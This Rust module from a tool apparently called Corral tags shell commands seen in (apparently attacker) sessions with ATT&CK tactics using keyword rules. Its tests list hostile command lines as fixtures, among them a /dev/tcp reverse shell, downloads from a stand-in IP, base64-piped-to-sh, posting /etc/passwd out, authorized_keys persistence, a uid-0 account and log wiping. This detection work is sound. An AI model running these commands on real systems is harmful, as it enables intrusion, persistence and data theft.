//! What a command is for: ATT&CK tactics and techniques by a list of rules, `data/tactics.toml`.
//!
//! The rules look at words, not at meaning; a tag says "such commands are used for this", with a
//! confidence. Campaigns are told apart by the phases that tags make up, which needs many commands
//! tagged roughly rather than few exactly.

use std::sync::Arc;

use serde::Deserialize;

use crate::shell::{self, Call};
use crate::store::record;

const RULES: &str = include_str!("../../data/tactics.toml");

/// All rules.
#[derive(Debug)]
pub struct Tactics {
    rules: Vec<Rule>,
}

/// One rule, and the tag it gives.
#[derive(Debug)]
struct Rule {
    tag: Arc<record::Rule>,
    words: Vec<String>,
    prefixes: Vec<String>,
    with: Vec<String>,
    contains: Vec<String>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields, rename_all = "kebab-case")]
struct File {
    version: i64,
    attack_release: String,
    rule: Vec<Entry>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields, rename_all = "kebab-case")]
struct Entry {
    id: String,
    tactic: String,
    technique: String,
    sub_technique: Option<String>,
    confidence: f64,
    #[serde(default)]
    words: Vec<String>,
    #[serde(default)]
    prefixes: Vec<String>,
    #[serde(default)]
    with: Vec<String>,
    #[serde(default)]
    contains: Vec<String>,
}

impl Tactics {
    /// The rules that Corral comes with.
    ///
    /// # Errors
    /// What is wrong with them: a bug of this release.
    pub fn built_in() -> Result<Self, toml::de::Error> {
        let File { version, attack_release, rule } = toml::from_str(RULES)?;
        let attack_release: Arc<str> = Arc::from(attack_release);
        let rules = rule.into_iter().map(|entry| Rule {
            tag: Arc::new(record::Rule {
                id: Arc::from(entry.id),
                version,
                attack_release: Arc::clone(&attack_release),
                tactic: Arc::from(entry.tactic),
                technique: Arc::from(entry.technique),
                sub_technique: entry.sub_technique.map(Arc::from),
                confidence: entry.confidence,
            }),
            words: entry.words,
            prefixes: entry.prefixes,
            with: entry.with,
            contains: entry.contains,
        });
        Ok(Self { rules: rules.collect() })
    }

    /// The tags of a command line, in the order of the rules.
    pub fn tags(&self, line: &str) -> Box<[Arc<record::Rule>]> {
        let line = shell::prefix(line, shell::BYTES_MAX).to_lowercase();
        let calls = shell::calls(&line);
        self.rules
            .iter()
            .filter(|rule| rule.fits(&line, &calls))
            .map(|rule| Arc::clone(&rule.tag))
            .collect()
    }
}

impl Rule {
    fn fits(&self, line: &str, calls: &[Call<'_>]) -> bool {
        let stands = |pattern: &String| line.contains(pattern.as_str());
        let is_called = self.words.is_empty() && self.prefixes.is_empty()
            || calls.iter().any(|call| self.calls(call));
        is_called && (self.contains.is_empty() || self.contains.iter().any(stands))
    }

    fn calls(&self, call: &Call<'_>) -> bool {
        let is_named = call.names().any(|name| self.words.iter().any(|word| word == name));
        let begins = |prefix: &String| {
            call.program().is_some_and(|program| program.starts_with(prefix.as_str()))
        };
        if !is_named && !self.prefixes.iter().any(begins) {
            return false;
        }
        // The words with one blank between them and around them, so that ` -l` is an option.
        let text = format!(" {} ", call.words.join(" "));
        self.with.is_empty() || self.with.iter().any(|pattern| text.contains(pattern.as_str()))
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    fn tags(line: &str) -> Vec<String> {
        Tactics::built_in().unwrap().tags(line).iter().map(|rule| rule.id.to_string()).collect()
    }

    #[test]
    fn the_rules_are_what_they_claim_to_be() {
        let tactics = Tactics::built_in().unwrap();
        let mut ids = BTreeSet::new();
        for Rule { tag, words, prefixes, contains, with } in &tactics.rules {
            let id = &tag.id;
            assert!(ids.insert(id.clone()), "{id} twice");
            assert!(tag.tactic.starts_with("TA00") && tag.tactic.len() == 6, "{id}");
            assert!(tag.technique.starts_with('T') && tag.technique.len() == 5, "{id}");
            if let Some(sub) = &tag.sub_technique {
                assert!(sub.starts_with(&format!("{}.", tag.technique)) && sub.len() == 9, "{id}");
            }
            assert!((0.0..=1.0).contains(&tag.confidence), "{id}");
            assert!(
                !words.is_empty() || !prefixes.is_empty() || !contains.is_empty(),
                "{id} fits everything"
            );
            assert!(
                with.is_empty() || !words.is_empty() || !prefixes.is_empty(),
                "{id}: with needs words"
            );
            for pattern in [words, prefixes, contains, with].into_iter().flatten() {
                assert!(
                    !pattern.is_empty() && *pattern == pattern.to_lowercase(),
                    "{id}: {pattern}"
                );
            }
        }
        assert!(ids.len() >= 60, "{}", ids.len());
    }

    #[test]
    fn what_sessions_really_contain_is_tagged() {
        for (line, expected) in [
            ("uname -a", "system-uname"),
            ("cat /proc/cpuinfo | grep name | wc -l", "system-cpu-file"),
            ("free -m | grep Mem | awk '{print $2}'", "system-memory"),
            ("lscpu | grep Model", "system-cpu"),
            ("w", "user-who"),
            ("crontab -l", "schedule-list"),
            ("ls -lh $(which ls)", "software-which"),
            ("cat /etc/passwd", "account-list"),
            (
                "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAA\">>.ssh/authorized_keys",
                "persist-authorized-keys",
            ),
            ("chattr -ia .ssh; lockr -ia .ssh", "evade-attributes"),
            ("echo \"root:x\"|chpasswd|bash", "persist-password"),
            ("unset HISTORY; export HISTFILE=/dev/null", "evade-history"),
            ("rm -rf /var/log/wtmp", "evade-logs"),
            ("wget http://198.51.100.7/x; curl -O http://198.51.100.7/x", "transfer-download"),
            ("tftp -g 198.51.100.7 -r x", "transfer-download"),
            ("scp -t /tmp/x", "transfer-copy"),
            ("chmod 777 x", "evade-permissions"),
            ("cd /tmp; ./x arg", "run-dropped-file"),
            ("nohup /tmp/x &", "run-detached"),
            ("/bin/busybox wget x", "transfer-download"),
            ("pkill -9 xmrig", "impact-stop-rivals"),
            ("iptables -F", "evade-firewall"),
            ("systemctl enable x", "persist-service"),
            ("systemctl stop x", "evade-stop-service"),
            ("useradd -u 0 -g 0 -o x", "persist-account"),
            ("echo aWQ= | base64 -d | sh", "evade-decode"),
            ("echo -e '\\x67\\x61\\x79'", "evade-escaped-bytes"),
            ("dd bs=52 count=1 if=.s || cat .s", "system-own-binary"),
            ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "control-socket"),
            ("enable", "run-embedded-console"),
            ("ps | grep '[Mm]iner'", "rivals-list"),
            ("curl -X POST -d @/etc/passwd http://x", "exfiltrate-post"),
        ] {
            assert!(tags(line).iter().any(|tag| tag == expected), "{line}: {:?}", tags(line));
        }
    }

    #[test]
    fn what_says_nothing_gets_no_tag() {
        for line in [
            "",
            "exit",
            "XBWk2DfaVCtdANvbugnv",
            "Enter new UNIX password: ",
            "echo ok",
            "systemctl status x",
        ] {
            assert_eq!(tags(line), Vec::<String>::new(), "{line}");
        }
    }
}
